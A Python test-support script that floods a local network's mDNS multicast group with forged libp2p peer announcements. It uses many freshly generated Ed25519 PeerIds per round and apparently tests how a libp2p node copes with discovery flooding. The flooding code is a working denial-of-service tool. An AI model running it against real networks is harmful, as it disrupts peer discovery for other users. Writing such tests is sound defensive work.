"""An mDNS attacker: announce many fresh libp2p PeerIds on the LAN, as libp2p-mdns does.

Run as a script inside a test namespace: ``python tests/support/mdns_flood.py COUNT
ROUNDS ADDR`` (ADDR: the namespace's IPv4 address, the interface it sends from). Each
round sends COUNT fresh Ed25519 PeerIds, each with one address (``/ip4/<any>/tcp/<port>``;
libp2p-mdns replaces the IP with the sender's), 15 to an mDNS response laid out like
libp2p-mdns's ``build_query_response`` (a PTR answer for ``_p2p._udp.local`` per peer, a
TXT ``dnsaddr=.../p2p/<id>`` record under its random name), to 224.0.0.251:5353, TTL
one day. Prints how many peers it announced. Real crypto: fresh Ed25519 keys, their
PeerIds computed by libp2p (``web4._core.peer_id_of``).
"""

from __future__ import annotations

import os
import secrets
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from web4 import _core

SERVICE = (b"_p2p", b"_udp", b"local")
GROUP = ("224.0.0.251", 5353)
PER_PACKET = 15
TTL = 86400


def _name(labels: tuple[bytes, ...]) -> bytes:
    return b"".join(bytes([len(x)]) + x for x in labels) + b"\x00"


def _record(name: bytes, rtype: int, rdata: bytes) -> bytes:
    return name + struct.pack(">HHIH", rtype, 1, TTL, len(rdata)) + rdata


def _fresh_peer_id() -> str:
    key = Ed25519PrivateKey.generate().public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    return _core.peer_id_of(key)


def packet(peers: list[tuple[str, int]]) -> bytes:
    """One mDNS response announcing ``peers`` (peer id, port)."""
    answers, extra = [], []
    for peer_id, port in peers:
        own = _name((secrets.token_hex(16).encode(), *SERVICE))
        answers.append(_record(_name(SERVICE), 12, own))  # PTR
        txt = f"dnsaddr=/ip4/10.0.0.1/tcp/{port}/p2p/{peer_id}".encode()
        extra.append(_record(own, 16, bytes([len(txt)]) + txt))  # TXT
    header = struct.pack(">HHHHHH", 0, 0x8400, 0, len(answers), 0, len(extra))
    return header + b"".join(answers) + b"".join(extra)


def main() -> int:
    count, rounds, addr = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sent = 0
    for _ in range(rounds):
        batch = [(_fresh_peer_id(), 1024 + (os.getpid() + i) % 60000) for i in range(count)]
        for i in range(0, count, PER_PACKET):
            s.sendto(packet(batch[i : i + PER_PACKET]), GROUP)
            sent += len(batch[i : i + PER_PACKET])
            time.sleep(0.002)  # a burst, but one the receivers' socket buffers take
    print(sent, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
